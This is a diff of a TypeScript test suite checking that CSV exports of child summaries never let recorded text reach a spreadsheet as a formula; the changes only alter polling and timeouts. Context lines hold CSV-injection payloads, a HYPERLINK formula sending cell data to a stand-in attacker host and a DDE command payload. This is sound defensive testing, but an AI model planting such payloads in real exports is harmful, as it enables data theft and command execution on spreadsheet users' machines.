@@ -4,6 +4,7 @@ import { apiClient, type ApiClient } from '../support/http-client';
 import { registerBody } from '../support/journey-bodies';
 import { startTestApp, type TestApp } from '../support/test-app';
 import { tokenFor } from '../support/tokens';
+import { OUTCOME_DEADLINE_MS } from '../support/poll';
 
 const TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const WORKER = '+cmd|calc!A1';
@@ -14,7 +15,7 @@ async function csvLineOf(
   childId: string,
   role: 'reporting_job' | 'auditor',
 ): Promise<string> {
-  for (let attempt = 0; attempt < 100; attempt++) {
+  for (const deadline = Date.now() + OUTCOME_DEADLINE_MS; Date.now() < deadline;) {
     const csv = await api.get<string>('/exports/read-models/child-summaries?format=csv', {
       token: tokenFor(role),
     });
@@ -54,7 +55,7 @@ describe('CSV injection: recorded text never reaches a spreadsheet as a formula'
       ],
       { expectedRevision: 'any' },
     );
-  }, 30_000);
+  }, 60_000);
   afterAll(() => t.close());
 
   it.each(['reporting_job', 'auditor'] as const)(
